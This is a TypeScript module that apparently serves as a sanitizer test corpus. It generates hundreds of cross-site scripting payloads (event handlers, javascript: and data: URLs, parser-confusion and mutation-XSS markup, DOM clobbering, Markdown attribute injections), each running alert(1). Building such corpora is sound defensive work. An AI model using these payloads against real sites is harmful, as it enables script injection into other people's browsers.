const RUN = 'alert(1)';

/** Raw HTML and Markdown that run a script where a program lets them: the vectors of the well-known cheat sheets, and their combinations. */
export const ATTACKS: readonly string[] = [
  ...handlers(),
  ...addresses(),
  ...elements(),
  ...confusions(),
  ...markdown(),
];

function handlers(): string[] {
  const names =
    'onabort onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle onblur oncanplay onclick oncontextmenu oncopy ondblclick ondrag ondurationchange onended onerror onfocus onfocusin onformdata ongotpointercapture oninput onkeydown onload onloadstart onmousedown onmouseenter onmousemove onmouseover onpageshow onpaste onplay onpointerdown onpointerenter onpointermove onpointerover onprogress onresize onscroll onselectstart onstalled onsubmit onsuspend ontoggle ontouchstart ontransitionend onwheel'.split(
      ' ',
    );
  const carriers = [
    (on: string) => `<img src=x ${on}=${RUN}>`,
    (on: string) => `<div tabindex=0 autofocus ${on.toUpperCase()}="${RUN}">a</div>`,
    (on: string) => `<video controls src=x ${on}='${RUN}'></video>`,
    (on: string) => `text <a href="#" id=x${on}\n${on}=${RUN}>b</a>`,
  ];
  return [
    ...names.flatMap((on, index) => carriers.map(carrier => carrier(on)).slice(0, 2 + (index % 3))),
    `<details open ontoggle=${RUN}><summary>a</summary></details>`,
    `<body onload=${RUN}>`,
    `<svg onload=${RUN}></svg>`,
    `<svg/onload=${RUN}>`,
    `<marquee onstart=${RUN}>a</marquee>`,
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}></select>`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src=x onerror\n=\n${RUN}>`,
    `<img src=x onerror="&#97;lert(1)">`,
    `<img src="x" alt="a"onerror=${RUN}>`,
    `<picture><source srcset=x onerror=${RUN}><img src=x onerror=${RUN}></picture>`,
    `<audio src=x onerror=${RUN}></audio>`,
  ];
}

function addresses(): string[] {
  const urls = [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    ` javascript:${RUN}`,
    `java&#115;cript:${RUN}`,
    `java&Tab;script:${RUN}`,
    `java&NewLine;script:${RUN}`,
    `javascript&colon;${RUN}`,
    `&#x6A;avascript:${RUN}`,
    `&#1;javascript:${RUN}`,
    `javascript://%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `vbscript:${RUN}`,
    `view-source:javascript:${RUN}`,
  ];
  return urls.flatMap(url => [
    `<a href="${url}" id="go">a</a>`,
    `<img src="${url}">`,
    `<video poster="${url}" src="${url}"></video>`,
    `<picture><source srcset="${url}"><img src="${url}"></picture>`,
    `<iframe src="${url}"></iframe>`,
    `<form action="${url}"><button>a</button></form>`,
    `[a](<${url.replace(/<.*/, '')}>)`,
  ]);
}

function elements(): string[] {
  return [
    `<script>${RUN}</script>`,
    `a <script>${RUN}</script> b`,
    `<SCRIPT SRC=data:,${RUN}></SCRIPT>`,
    `<script\n>${RUN}</script\n>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<<script>${RUN}//<</script>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<object data="data:text/html,<script>${RUN}</script>"></object>`,
    `<embed src="data:text/html,<script>${RUN}</script>">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
    `<link rel=stylesheet href="javascript:${RUN}">`,
    `<base href="javascript:${RUN}//">`,
    `<style>@import 'javascript:${RUN}'; * { background: url(javascript:${RUN}) }</style>`,
    `<div style="background:url(javascript:${RUN})">a</div>`,
    `<button formaction="javascript:${RUN}">a</button>`,
    `<isindex action="javascript:${RUN}" type=submit>`,
    `<math href="javascript:${RUN}">a</math>`,
    `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>a</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
    `<template><script>${RUN}</script></template>`,
    `<portal src="javascript:${RUN}"></portal>`,
    `<x onclick=${RUN} tabindex=0>a</x>`,
    `<my-element onfocus=${RUN} tabindex=0 autofocus>a</my-element>`,
    `<Component onClick={${RUN}} dangerouslySetInnerHTML={{__html: "x"}} />`,
  ];
}

/** Where one parser sees a text and another one a tag. */
function confusions(): string[] {
  const image = `<img src=x onerror=${RUN}>`;
  return [
    `<noscript><p title="</noscript>${image}">`,
    `<textarea><p title="</textarea>${image}">`,
    `<title><p title="</title>${image}">`,
    `<xmp><p title="</xmp>${image}">`,
    `<iframe><p title="</iframe>${image}">`,
    `<noembed><p title="</noembed>${image}">`,
    `<noframes><p title="</noframes>${image}">`,
    `<plaintext>${image}`,
    `<style><p title="</style>${image}">`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!-- --!>${image} -->`,
    `<!--->${image}-->`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<?xml ?>${image}`,
    `<!DOCTYPE x [ <!ENTITY y "${RUN}"> ]>${image}`,
    `<math><mtext><table><mglyph><style><!--</style>${image}-->`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><desc><template><style></svg>${image}</style></template></desc>`,
    `<table><caption><svg><title><style></table>${image}`,
    `<select><noembed></select><script>x='<script x>'; ${RUN}</script>`,
    `<a title="><img src=x onerror=${RUN}>" href=x>a</a>`,
    `<a title='"><img src=x onerror=${RUN}>'>a</a>`,
    `<a title=\`"><img src=x onerror=${RUN}>\`>a</a>`,
    `<img alt="\`\`onerror=${RUN}" src=x>`,
    `<img src=x alt='a" onerror="${RUN}'>`,
    `<p title="&quot; onmouseover=${RUN} x=&quot;">a</p>`,
    `<b <script>${RUN}</script>0`,
    `<a href="x"<img src=x onerror=${RUN}>`,
    `<kbd title="&lt;/kbd&gt;${image}">a</kbd>`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `<details><summary title="</summary>${image}">a</summary></details>`,
    `<div\u000conclick=${RUN}>a</div>`,
    `<img src="x\u00a0"onerror=${RUN}>`,
    `<table><tr><td>${image}</table>${image}`,
    `<p id="pageData"><a id="pageMain" name="pageRoot">a</a></p>`,
    `<a id=defaultView></a><form id=document><input name=body></form>`,
  ];
}

function markdown(): string[] {
  return [
    `[a](javascript:${RUN})`,
    `[a](JAVASCRIPT&colon;${RUN})`,
    `<javascript:${RUN}>`,
    `[a][b]\n\n[b]: javascript:${RUN}`,
    `![a](javascript:${RUN})`,
    `![a" onerror="${RUN}](x)`,
    `![a](x "b\\" onerror=\\"${RUN}")`,
    `[a](x "b' onmouseover='${RUN}")`,
    `![a](x.png){onerror=${RUN} width="1\\" onerror=\\"${RUN}"}`,
    `[a](x){onclick="${RUN}"}`,
    `## a {#b onclick=${RUN}}`,
    `## a {#"><img/src=x/onerror=${RUN}>}`,
    `## a {: #b onmouseover="${RUN}" }`,
    `:::note{onclick="${RUN}"}\na\n:::`,
    `:::note{class="x\\" onclick=\\"${RUN}"}\na\n:::`,
    `:::note{id='"><img src=x onerror=${RUN}>'}\na\n:::`,
    `::: tip <img src=x onerror=${RUN}>\na\n:::`,
    `!!! note "<img src=x onerror=${RUN}>"\n    a`,
    `> [!note] <img src=x onerror=${RUN}>\n> a`,
    `=== "\\"><script>${RUN}</script>"\n    a`,
    `\`\`\`js title="<img src=x onerror=${RUN}>"\na\n\`\`\``,
    `| <img src=x onerror=${RUN}> |\n| - |\n| <script>${RUN}</script> |`,
    `a[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
    `<img src=x onerror=${RUN}>\n: <script>${RUN}</script>`,
    `::button[a]{href="javascript:${RUN}"}`,
    `:unknown[<img src=x onerror=${RUN}>]{onclick=${RUN}}`,
  ];
}
